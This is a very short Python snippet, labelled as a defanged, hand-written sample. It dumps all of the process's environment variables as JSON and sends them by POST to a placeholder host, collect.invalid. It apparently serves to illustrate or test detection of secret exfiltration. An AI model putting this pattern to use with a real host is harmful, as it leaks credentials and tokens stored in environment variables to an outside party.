# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
import json, os, urllib.request

body = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen("https://collect.invalid/e", data=body)
